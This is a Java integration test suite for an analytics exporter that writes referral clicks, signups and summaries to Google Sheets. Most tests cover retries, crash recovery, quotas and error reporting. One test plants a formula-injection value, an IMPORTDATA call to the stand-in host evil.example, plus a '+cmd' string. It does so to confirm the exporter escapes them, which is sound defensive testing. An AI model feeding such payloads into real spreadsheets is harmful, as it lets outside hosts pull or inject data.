package io.kazini.analytics.export.sheets;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.awaitility.Awaitility.await;

import io.kazini.analytics.export.ExportFailure;
import io.kazini.analytics.export.ExportFixture;
import io.kazini.analytics.export.ExportFormat;
import io.kazini.analytics.export.ExportJob;
import io.kazini.analytics.export.ExportKind;
import io.kazini.analytics.export.ExportScope;
import io.kazini.analytics.export.ExportState;
import io.kazini.analytics.export.RunningExport;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Objects;
import java.util.UUID;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.JdbcTemplate;
import tools.jackson.databind.JsonNode;

class GoogleSheetsIT extends ExportFixture {

    private static final String RAW = "Tracker_Raw_Data";
    private static final int EVENT_TYPE = 1;
    private static final int COUNTS = 12;
    private static final int EVENT_ID = 13;

    @Autowired
    private SheetsApi api;

    @Autowired
    private Grid grid;

    @Autowired
    private SheetsProperties properties;

    @Autowired
    private JdbcTemplate batches;

    @Test
    void everyEventGetsOneRowBelowTheHeadingsAndLaterOnesFollow() {
        Link link = aLink("Amina Otieno", "January intake");
        List<UUID> clicks = new ArrayList<>(clicks(link, 25, NOON));

        UUID first = done("RAW", "SHEETS");
        assertThat(get("/" + first).path("rowsDone").asLong()).isEqualTo(25);
        clicks.addAll(clicks(link, 3, NOON.plusSeconds(60)));
        UUID second = done("RAW", "SHEETS");

        assertThat(get("/" + second).path("rowsDone").asLong()).isEqualTo(3);
        assertThat(tab(RAW).getFirst().subList(0, 6))
                .isEqualTo(List.of("Timestamp", "EventType", "ReferralID", "OfficerID", "CampaignID", "CampaignName"));
        assertThat(ids()).containsExactlyElementsOf(clicks);
        assertThat(tab(RAW).get(1).subList(0, 8))
                .isEqualTo(List.of(
                        "2026-11-16T09:00:00Z",
                        "click",
                        "code-" + link.id(),
                        link.officer().toString(),
                        link.campaign().toString(),
                        "January intake",
                        "41.90.x.x",
                        "Mozilla/5.0"));
    }

    /** The worst moment: Google has written, and nobody heard of it. */
    @Test
    void aWriteWhoseAnswerIsLostIsRepeatedIntoTheSameCells() {
        List<UUID> clicks = clicks(aLink("Amina Otieno", "January intake"), 35, NOON);
        List<String> writes = Collections.synchronizedList(new ArrayList<>());
        SHEETS.onWrite(body -> {
            writes.add(body.at("/data/0/range").asString());
            // The answers to the first and to the third batch; the headings come first.
            if (writes.size() == 2 || writes.size() == 6) {
                SHEETS.loseThisAnswer();
            }
        });

        awaitState(order("RAW", "SHEETS"), "DONE");

        assertThat(writes)
                .containsSubsequence(
                        RAW + "!A2:N11", RAW + "!A2:N11", RAW + "!A12:N21", RAW + "!A22:N31", RAW + "!A22:N31");
        assertThat(ids()).containsExactlyElementsOf(clicks);
    }

    @Test
    void killedBetweenTheWriteAndTheWatermarkTheNextRunnerWritesTheSameAgain() {
        List<UUID> clicks = clicks(aLink("Amina Otieno", "January intake"), 10, NOON);
        List<String> writes = Collections.synchronizedList(new ArrayList<>());
        SHEETS.onWrite(body -> writes.add(body.toString()));
        UUID dead = UUID.randomUUID();
        sql.sql("""
            insert into export_job (export_id, kind, format, zone, target, requested_by, state, created_at,
                                    due_at, runner, leased_until)
            values (?, 'RAW', 'SHEETS', 'UTC', ?, ?, 'RUNNING', now(), now(), gen_random_uuid(),
                    now() + interval '1500 ms')\
            """).params(dead, SPREADSHEET + "/" + RAW, manager).update();
        class Killed extends Error {
            private static final long serialVersionUID = 1L;
        }
        RawLog dyingLog = new RawLog(sql, batches, json) {
            @Override
            public void written(String spreadsheet, long lastRow) {
                throw new Killed();
            }
        };

        assertThatThrownBy(() -> new RawSheet(dyingLog, grid, api, properties).write(inTheHandsOfNobody()))
                .isInstanceOf(Killed.class);
        assertThat(ids()).containsExactlyElementsOf(clicks);
        List<UUID> meanwhile = clicks(aLink("Brian Kiprono", "March intake"), 4, NOON);

        awaitState(dead, "DONE");

        List<UUID> expected = new ArrayList<>(clicks);
        expected.addAll(meanwhile);
        assertThat(ids()).containsExactlyElementsOf(expected);
        List<String> ofTheFirstBatch = writes.stream()
                .filter(body -> body.contains(clicks.getFirst().toString()))
                .toList();
        assertThat(ofTheFirstBatch).hasSize(2);
        assertThat(ofTheFirstBatch.getFirst()).isEqualTo(ofTheFirstBatch.getLast());
    }

    @Test
    void whatIsVoidedLaterIsTakenBackByARowOfItsOwnAndTheSumIsTheFigure() {
        Link link = aLink("Amina Otieno", "January intake");
        List<UUID> clicks = clicks(link, 5, NOON);
        clicks(link, 2, NOON, "WhatsApp/2.23", true);
        UUID signup = signup(link, clicks.get(4), NOON);
        UUID enrolment = enrolment(link, signup, NOON.plusSeconds(600), null);
        done("RAW", "SHEETS");
        assertThat(sums()).isEqualTo("clicks 5 signups 1 enrolments 0");

        voided(link, clicks.subList(0, 2), NOON);
        enrolment(enrolment, link, signup, null, NOON.plusSeconds(900));
        done("RAW", "SHEETS");
        assertThat(sums()).isEqualTo("clicks 3 signups 1 enrolments 1");

        signupVoided(link, signup, NOON.plusSeconds(1200));
        done("RAW", "SHEETS");
        assertThat(sums()).isEqualTo("clicks 3 signups 0 enrolments 0");
        assertThat(sql.sql("select clicks, signups, enrolments from referral_rollup where level = 'ALL' and grain"
                                + " = 'MONTH'")
                        .query((row, _) -> "clicks %d signups %d enrolments %d"
                                .formatted(row.getLong(1), row.getLong(2), row.getLong(3)))
                        .single())
                .isEqualTo("clicks 3 signups 0 enrolments 0");
        assertThat(tab(RAW).stream().skip(1).map(row -> row.get(EVENT_TYPE)))
                .containsExactly(
                        "click",
                        "click",
                        "click",
                        "click",
                        "click",
                        "signup",
                        "enrollment",
                        "click-voided",
                        "click-voided",
                        "enrollment",
                        "signup-voided",
                        "enrollment-voided");
    }

    @Test
    void aVoidThatIsHeardBeforeItsClickIsTakenBackOnceTheClickIsThere() {
        Link link = aLink("Amina Otieno", "January intake");
        UUID click = clicks(link, 1, NOON).getFirst();
        sql.sql("delete from referral_click").update();
        sql.sql("delete from referral_rollup").update();
        voided(link, List.of(click), NOON);
        done("RAW", "SHEETS");
        assertThat(ids()).isEmpty();

        sql.sql("""
            insert into referral_click (click_id, clicked_at, link_id, outcome, bot, first_visit, counted, voided_by)
            values (?, ?::timestamptz, ?, 'REDIRECTED', false, true, true, gen_random_uuid())\
            """).params(click, NOON.toString(), link.id()).update();
        done("RAW", "SHEETS");

        assertThat(tab(RAW).stream().skip(1).map(row -> row.get(EVENT_TYPE) + " " + row.get(COUNTS)))
                .containsExactly("click 1", "click-voided -1");
    }

    @Test
    void aFormulaIsTextInTheTabAndStaysSoInItsDownload() {
        clicks(aLink("Amina Otieno", "=IMPORTDATA(\"http://evil.example\")"), 1, NOON, "+cmd", false);

        done("RAW", "SHEETS");

        assertThat(tab(RAW).get(1).get(5)).isEqualTo("'=IMPORTDATA(\"http://evil.example\")");
        assertThat(tab(RAW).get(1).get(7)).isEqualTo("'+cmd");
        assertThat(tab(RAW).get(1).get(COUNTS)).isEqualTo(1);
    }

    @Test
    void whenTheQuotaIsUsedUpTheJobSaysSoWaitsAndGoesOn() {
        List<UUID> clicks = clicks(aLink("Amina Otieno", "January intake"), 15, NOON);
        SHEETS.failNext(2, 429, null, false);
        SHEETS.failNext(1, 503, null, false);
        SHEETS.failNext(1, 429, 2, false);

        UUID export = order("RAW", "SHEETS");

        await().atMost(PATIENCE).untilAsserted(() -> {
            JsonNode waiting = get("/" + export);
            assertThat(waiting.path("state").asString()).isEqualTo("QUEUED");
            assertThat(waiting.at("/failure/code").asString()).isEqualTo("sheets-quota");
            assertThat(waiting.path("failures").asInt()).isEqualTo(4);
        });
        assertThat(sql.sql("select due_at > now() from export_job where export_id = ?")
                        .param(export)
                        .query(Boolean.class)
                        .single())
                .as("Retry-After is longer than the longest pause of this test")
                .isTrue();
        JsonNode done = awaitState(export, "DONE");
        assertThat(done.path("failures").asInt()).isZero();
        assertThat(ids()).containsExactlyElementsOf(clicks);
    }

    @Test
    void aTokenThatGoogleForgotIsRenewedWithoutAFailure() {
        clicks(aLink("Amina Otieno", "January intake"), 1, NOON);
        done("RAW", "SHEETS");
        int tokens = SHEETS.tokensIssued();
        done("OFFICERS", "SHEETS");
        assertThat(SHEETS.tokensIssued()).isEqualTo(tokens);

        SHEETS.revokeTokens();
        UUID export = done("CAMPAIGNS", "SHEETS");

        assertThat(SHEETS.tokensIssued()).isEqualTo(tokens + 1);
        assertThat(get("/" + export).path("failures").asInt()).isZero();
    }

    @Test
    void whatOnlyAPersonCanMendFailsAtOnceAndSaysHow() {
        SHEETS.failAlways(403);
        JsonNode forbidden = awaitState(order("OFFICERS", "SHEETS"), "FAILED");
        SHEETS.failAlways(404);
        JsonNode missing = awaitState(order("OFFICERS", "SHEETS"), "FAILED");

        assertThat(forbidden.at("/failure/code").asString()).isEqualTo("sheets-forbidden");
        assertThat(forbidden.at("/failure/reason").asString())
                .contains("shared")
                .contains("kazini-exports@local-stack.iam.gserviceaccount.example");
        assertThat(missing.at("/failure/code").asString()).isEqualTo("sheets-not-found");
    }

    @Test
    void whatDoesNotPassFailsAfterItsAttemptsAndCanBeRetried() {
        clicks(aLink("Amina Otieno", "January intake"), 3, NOON);
        SHEETS.failAlways(503);
        UUID export = order("RAW", "SHEETS");

        JsonNode failed = awaitState(export, "FAILED");
        assertThat(failed.at("/failure/code").asString()).isEqualTo("sheets-unavailable");
        assertThat(failed.path("failures").asInt()).isEqualTo(5);

        SHEETS.clearFaults();
        post("/" + export + "/retry").expectStatus().isAccepted();
        assertThat(awaitState(export, "DONE").has("failure")).isFalse();
        assertThat(ids()).hasSize(3);
    }

    @Test
    void aSummaryThatBecomesShorterLeavesNothingBehind() {
        for (int i = 0; i < 30; i++) {
            aLink("Officer " + (100 + i), "Campaign " + i);
        }
        done("OFFICERS", "SHEETS");
        assertThat(tab("Officer_Summary")).hasSize(31);

        sql.sql("delete from referral_officer where full_name > 'Officer 104'").update();
        done("OFFICERS", "SHEETS");

        assertThat(tab("Officer_Summary").stream().skip(1).map(row -> row.get(1)))
                .containsExactly("Officer 100", "Officer 101", "Officer 102", "Officer 103", "Officer 104");
    }

    @Test
    void allFourTabsHaveTheNamesAndTheColumnsOfTheDocument() {
        Link link = aLink("Amina Otieno", "January intake");
        signup(link, clicks(link, 2, NOON).getFirst(), NOON);

        for (String kind : List.of("RAW", "OFFICERS", "CAMPAIGNS", "TIME_SERIES")) {
            done(kind, "SHEETS");
        }

        assertThat(tab(RAW).getFirst()).contains("Timestamp", "EventType", "ReferralID", "OfficerID");
        assertThat(tab("Officer_Summary").getFirst()).contains("OfficerName", "TotalClicks", "ClickToSignupRate");
        assertThat(tab("Campaign_Summary").getFirst()).contains("CampaignName", "TotalSignups", "DailyVelocity");
        assertThat(tab("Time_Series_Data").getFirst()).contains("Date", "TotalSignups", "ConversionRate");
        assertThat(tab("Officer_Summary").get(1)).contains("Amina Otieno");
        assertThat(tab("Time_Series_Data").get(1).getFirst()).isEqualTo("2026-11-16");
    }

    @Test
    void aTabGrowsWithItsRowsAndAFullSpreadsheetIsAClearFailure() {
        assertThat(grid.withRoom("Growing", 1500, 14).rows()).isEqualTo(2000);
        assertThat(grid.withRoom("Growing", 2001, 14).rows()).isEqualTo(3000);
        assertThat(grid.withRoom("Growing", 1, 1).rows()).isEqualTo(3000);

        assertThatThrownBy(() -> grid.withRoom("Growing", 900_000, 14))
                .isInstanceOfSatisfying(
                        ExportFailure.Final.class,
                        failure -> assertThat(failure.code()).isEqualTo("sheets-full"));
    }

    private List<UUID> ids() {
        return tab(RAW).stream()
                .skip(1)
                .map(row -> UUID.fromString(String.valueOf(row.get(EVENT_ID))))
                .toList();
    }

    /** What a pivot table would say. */
    private String sums() {
        return "clicks %d signups %d enrolments %d".formatted(sum("click"), sum("signup"), sum("enrollment"));
    }

    private long sum(String event) {
        return tab(RAW).stream()
                .skip(1)
                .filter(row -> String.valueOf(row.get(EVENT_TYPE)).startsWith(event))
                .mapToLong(row -> ((Number) Objects.requireNonNull(row.get(COUNTS))).longValue())
                .sum();
    }

    private static RunningExport inTheHandsOfNobody() {
        ExportJob job = new ExportJob(
                UUID.randomUUID(),
                ExportKind.RAW,
                ExportFormat.SHEETS,
                new ExportScope(null, null, ZoneOffset.UTC, null),
                false,
                null,
                null,
                ExportState.RUNNING,
                0,
                null,
                0,
                null,
                null,
                NOON,
                null,
                null,
                null,
                null,
                null,
                null);
        return new RunningExport() {
            @Override
            public ExportJob job() {
                return job;
            }

            @Override
            public void total(long rows) {}

            @Override
            public void done(long rows) {}

            @Override
            public void requireHeld() {}
        };
    }
}
